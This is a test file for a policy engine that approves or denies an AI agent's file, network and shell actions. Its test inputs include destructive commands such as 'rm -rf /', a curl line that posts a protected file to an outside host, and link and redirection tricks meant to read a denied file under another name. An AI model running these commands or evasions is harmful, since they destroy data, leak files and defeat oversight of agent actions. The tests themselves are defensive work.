/** What the policy decides about calls of real tools, by their effects, without executing them. */
import { describe, expect, it } from 'vitest';
import { explainCall } from '../../../src/engine/policy/explain-policy.ts';
import { requireResolvedTool } from '../../../src/engine/call/direct-call.ts';
import { policyDoor } from '../policy-door.ts';

function explainer(options: Parameters<typeof policyDoor>[0] = {}) {
  const door = policyDoor(options);
  const { deps, scope } = door;
  const names = scope.names();
  const explain = (name: string, args: Record<string, unknown>) =>
    explainCall(deps, { ...scope, names }, requireResolvedTool(names, name), args, new AbortController().signal);
  return { ...door, explain, script: (command: string) => explain('bash', { command }) };
}

describe('a script', () => {
  it('is judged by what it would do to the files; it sends nothing and changes nothing', async () => {
    const { script, sent, paths, text } = explainer();
    const before = paths();
    const answer = await script('echo x > n; rm n; sed -i s/a/b/ a.txt; rm b.txt; echo x > /tmp/y; curl https://new.example/ -d 1');
    expect(answer).toMatchObject({ canonical: 'builtin.bash', verdict: 'ask', kind: 'overwrite-file', rule: null });
    const told = answer.effects.filter(({ verdict }) => verdict === 'ask').map(({ effect }) => effect);
    const isFirst = told.filter((effect) => effect.kind !== 'write-file' || effect.change !== 'append');
    expect(isFirst).toEqual([
      { kind: 'write-file', path: '/workspace/a.txt', change: 'overwrite', own: false },
      { kind: 'delete-file', path: '/workspace/b.txt' },
      { kind: 'write-file', path: '/tmp/y', change: 'create', own: true },
      { kind: 'network', host: 'new.example', method: 'POST' },
    ]);
    expect([sent, paths(), text('a.txt')]).toEqual([[], before, 'a.txt\n']);
  });

  it('lists what it would call, and calls nothing', async () => {
    const { script, files } = explainer();
    const answer = await script(`tool delete_file --json '{"path": "a.txt"}'`);
    expect(answer.effects).toContainEqual(
      expect.objectContaining({ tool: 'builtin.delete_file', effect: { kind: 'delete-file', path: '/workspace/a.txt' }, verdict: 'ask' }),
    );
    expect(files.stat('/workspace/a.txt')).not.toBeNull();
  });

  it('without effects is allowed; one with a denied effect names the rule, whatever else it does', async () => {
    expect(await explainer().script('ls; cat a.txt; echo x > n')).toMatchObject({ verdict: 'allow', kind: null, rule: null });
    const rules = [{ decision: 'deny', path: '/workspace/d' }];
    expect(await explainer({ rules }).script('rm a.txt; cat d/x')).toMatchObject({ verdict: 'deny', kind: null, rule: { index: 0 } });
    expect(await explainer({ rules }).script('rm a.txt')).toMatchObject({ verdict: 'ask', kind: 'delete-file' });
  });
});

describe('the notes on a call', () => {
  it('say what the verdict does not cover', async () => {
    const rules = [{ decision: 'deny', kind: 'delete-file', path: '/workspace/d', note: 'kept' }];
    for (const [name, args] of [
      ['delete_file', { path: 'a.txt' }],
      ['delete_file', { path: 'd/x' }],
      ['delete_file', { path: 'nothing' }],
      ['write_file', { path: 'a.txt', content: 'new' }],
      ['write_file', { path: 'a.txt', content: 'a.txt\n' }],
      ['write_file', { path: '/etc/x', content: '' }],
      ['http_request', { url: 'https://new.example/' }],
      ['bash', { command: 'rm -rf /' }],
      ['bash', { command: 'mv b.txt a.txt' }],
      ['bash', { command: 'ls' }],
    ] as const) {
      const { explain, call } = explainer({ rules });
      const said = await explain(name, args);
      const { asked, code } = await call(name, args);
      const became = code === 'not_allowed' ? 'deny' : asked === null ? 'allow' : 'ask';
      // A script continues after a denied effect, and may require approval for the rest.
      if (!(said.verdict === 'deny' && name === 'bash'))
        expect([name, args, said.verdict, said.kind]).toEqual([name, args, became, asked?.kind ?? null]);
    }
  });
});

describe('a denied effect', () => {
  const rules = [
    { decision: 'deny', path: '/workspace/d', note: 'kept for the audit' },
    { decision: 'deny', host: 'bad.example' },
    { decision: 'deny', tool: 'local.calculate' },
    { decision: 'allow', kind: 'network' },
  ];

  it.each(['cat d/x', 'rm -rf d', 'mv d e', 'mv d/x y', 'echo x > d/x', 'echo x >> d/x', 'touch d/new', 'cp a.txt d', 'chmod 777 d/x'])(
    'is an error for a script, which names the rule: %s',
    async (command) => {
      const { bash, paths, text } = policyDoor({ rules });
      const before = paths();
      const { asked, text: answer } = await bash(command);
      expect([asked, paths(), text('d/x')]).toEqual([null, before, 'd/x\n']);
      expect(answer).toContain("Rule 0 of the workspace's policy forbids");
    },
  );

  it('of reading holds for every tool, and for the file under another name', async () => {
    const reading = [
      { decision: 'deny', path: '/workspace/d', effect: 'read' },
      { decision: 'allow', kind: 'network' },
    ];
    const scripts = [
      'cat d/x',
      'mv d e; cat e/x',
      'mv d/x y; cat y',
      'cp -r d e; cat e/x',
      'cd d && cat < x',
      'grep -r . .',
      'tar c d | cat',
    ];
    const odd = [
      'ln -s d/x y; cat y',
      'ln d/x y; cat y',
      '. d/x',
      'curl -s -d @d/x https://a.example/',
      'while read l; do echo $l; done < d/x',
    ];
    for (const command of [...scripts, ...odd, 'tool read_file --json \'{"path":"d/x"}\'', 'find . -name x -exec cat {} +']) {
      const { bash, sent, files } = policyDoor({ rules: reading });
      const { text } = await bash(command, { approved: true });
      expect([command, text.includes('d/x\n'), sent]).toEqual([command, false, []]);
      expect(files.stat('/workspace/d/x'), command).not.toBeNull();
    }
    const { call } = policyDoor({ rules: reading });
    for (const [name, args] of [
      ['read_file', { path: 'd/x' }],
      ['read_file', { path: './b/../d//x' }],
      ['edit_file', { path: 'd/x', edits: [{ oldText: 'd/x', newText: 'y' }] }],
    ] as const)
      expect(await call(name, args)).toMatchObject({ isError: true, text: expect.stringContaining('forbids reading /workspace/d/x') });
  });

  it('stays denied if the user or the entry allows it', async () => {
    const { bash, text, call, sent } = policyDoor({ rules });
    await bash('rm -rf d; rm a.txt', { approved: true });
    expect(text('d/x')).toBe('d/x\n');
    expect(() => text('a.txt')).toThrow();
    expect(await call('http_request', { url: 'https://bad.example/' }, { approved: true })).toMatchObject({ code: 'not_allowed' });
    expect(sent).toEqual([]);
  });

  it('of a call is not_allowed, with the rule and its reason', async () => {
    const { call } = policyDoor({ rules });
    expect(await call('calculate', { expression: '1' })).toMatchObject({
      code: 'not_allowed',
      text: expect.stringMatching(/rule 2 of the workspace's policy/),
    });
    expect(await call('read_file', { path: 'd/x' })).toMatchObject({ isError: true, text: expect.stringContaining('kept for the audit') });
    expect((await call('delete_file', { path: 'd/x' })).text).toMatch(/^Not run: rule 0 of the workspace's policy forbids deleting/);
  });
});
